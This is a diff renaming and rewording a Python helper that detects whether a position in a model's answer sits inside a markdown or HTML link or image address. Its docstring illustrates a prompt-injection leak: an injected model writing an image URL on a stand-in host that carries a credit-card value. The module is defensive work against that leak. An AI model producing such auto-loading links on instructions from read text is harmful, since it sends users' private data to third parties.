@@ -1,22 +1,24 @@
-"""Whether a place in an answer is inside a link's or an image's address.
+"""Detects positions of an answer that are inside the address of a link or an image.
 
-A client that renders an answer calls its images' addresses by itself. A model that was told to by a text it read could
-write `![](https://elsewhere.example/?c=[CREDIT_CARD_1])`: a value in the label's place would leave with that call.
+A client that renders an answer requests the addresses of its images without a click. A model that follows instructions
+in a text could write `![](https://elsewhere.example/?c=[CREDIT_CARD_1])`. If the value replaced the label there, the
+request would send it to a third party.
 """
 
 import re
 from typing import Final
 
-#: How far before a place an address may begin: no server takes a longer one.
+#: Characters before a position in which the start of an address is searched: servers accept no longer address.
 MAX_ADDRESS_CHARACTERS: Final = 8192
 _TAG: Final = re.compile("<[A-Za-z]")
 
 
-def inside_address(before: str) -> bool:
-    """`before` is the text up to the place, the last `MAX_ADDRESS_CHARACTERS` of it at least."""
+def is_inside_address(before: str) -> bool:
+    """Return whether the position is inside an address. `before` is the text before the position, at least its last
+    `MAX_ADDRESS_CHARACTERS`."""
     before = before[-MAX_ADDRESS_CHARACTERS:]
     run = "" if not before or before[-1].isspace() else before.rsplit(None, 1)[-1]
-    # A bare address, or one whose beginning is too far away to be seen.
+    # A bare address, or one whose start lies before the searched text.
     if "://" in run or len(run) == MAX_ADDRESS_CHARACTERS:
         return True
     # Markdown: `[text](address`, also `[text](<address with spaces`.
@@ -27,7 +29,7 @@ def inside_address(before: str) -> bool:
     line = before[before.rfind("\n") + 1 :].lstrip()
     if line.startswith("[") and "]:" in line:
         return True
-    # HTML: `<img src="address`, whose quotes may hold spaces and line breaks.
-    behind = before[before.rfind(">") + 1 :]
-    tag = _TAG.search(behind)
-    return tag is not None and "//" in behind[tag.start() :]
+    # HTML: `<img src="address`, whose quotes may contain spaces and line breaks.
+    after_tag = before[before.rfind(">") + 1 :]
+    tag = _TAG.search(after_tag)
+    return tag is not None and "//" in after_tag[tag.start() :]
